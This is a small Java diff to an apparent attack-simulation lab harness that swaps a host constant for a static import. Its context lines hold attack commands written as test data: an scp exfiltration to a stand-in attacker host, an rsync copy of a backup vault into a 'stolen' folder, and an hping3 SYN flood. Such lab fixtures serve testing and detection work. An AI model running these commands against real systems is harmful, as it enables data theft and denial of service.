@@ -1,6 +1,7 @@
 package dev.weir.standalone.lab;
 
 import static dev.weir.standalone.lab.LabHost.API;
+import static dev.weir.standalone.lab.LabHost.BASTION;
 import static dev.weir.standalone.lab.LabHost.CI;
 import static dev.weir.standalone.lab.LabHost.DB;
 import static dev.weir.standalone.lab.LabHost.EVILA;
@@ -324,7 +325,7 @@ final class LabAttacks {
         judge(
                 "exfil-scp",
                 "ssh",
-                BASTION_SOURCE,
+                BASTION,
                 1,
                 "head -c 80000000 /dev/urandom > $FOLDER/loot; scp $SSH -P 22 $FOLDER/loot root@$EVILB:/dev/null",
                 new Listener(EVILB, """
@@ -353,8 +354,6 @@ final class LabAttacks {
                 1,
                 "mkdir -p $FOLDER/stolen; rsync -a rsync://$BACKUP/vault/ $FOLDER/stolen/; rm -rf $FOLDER/stolen");
     }
-
-    private static final LabHost BASTION_SOURCE = LabHost.BASTION;
 
     private void floods() {
         tune("ddos-hping-syn", "hping3", NEW, 1, "hping3 -n -q -S -c 8000 -i u300 -p 80 $WEB");
